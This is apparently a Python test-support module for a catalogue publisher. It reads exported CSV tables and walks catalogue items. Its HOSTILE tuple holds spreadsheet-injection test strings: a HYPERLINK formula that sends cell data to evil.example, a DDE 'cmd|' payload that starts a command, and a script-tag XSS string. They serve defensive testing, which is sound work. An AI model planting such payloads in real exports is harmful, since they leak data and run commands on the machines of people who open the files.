"""Tables as a spreadsheet reads them, and catalogues whose every text is another."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import fields, is_dataclass, replace
from typing import Any

from publisher.model.catalogue import Catalogue, DataItem
from publisher.model.languages import Said

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Öppna")',
    "+358 44 123",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "＝1+1",
    "\t=1\r\n=2",
    'a;=1;"=2";',
    'quoted "text", with a comma',
    "first\nsecond\u2028third",
    "a | b",
    "<script>alert('ä')</script>",
    "\ufeff=1",
    "",
)
"""Texts that break tables that are made carelessly."""


def read(table: bytes) -> list[dict[str, str]]:
    """The rows of a table, each by the names of the columns."""
    assert table.startswith(b"\xef\xbb\xbf")
    text = table.decode("utf-8-sig")
    assert text.count("\n") == text.count("\r\n") == text.count("\r")
    found = csv.DictReader(io.StringIO(text, newline=""), strict=True)
    rows = list(found)
    assert all(None not in row and None not in row.values() for row in rows)
    return rows


def items(catalogue: Catalogue) -> list[DataItem]:
    """Every data item of a catalogue, at any depth, each before those under it."""
    found: list[DataItem] = []
    waiting = [item for r in reversed(catalogue.registers) for g in reversed(r.groups) for item in reversed(g.items)]
    while waiting:
        found.append(waiting.pop())
        waiting += reversed(found[-1].items)
    return found


def with_texts(thing: Any, change: Callable[[Said], Said]) -> Any:
    """A thing of the model with other texts."""
    if isinstance(thing, Said):
        return change(thing)
    if isinstance(thing, tuple):
        return tuple(with_texts(one, change) for one in thing)
    if is_dataclass(thing) and not isinstance(thing, type):
        return replace(thing, **{f.name: with_texts(getattr(thing, f.name), change) for f in fields(thing)})
    return thing
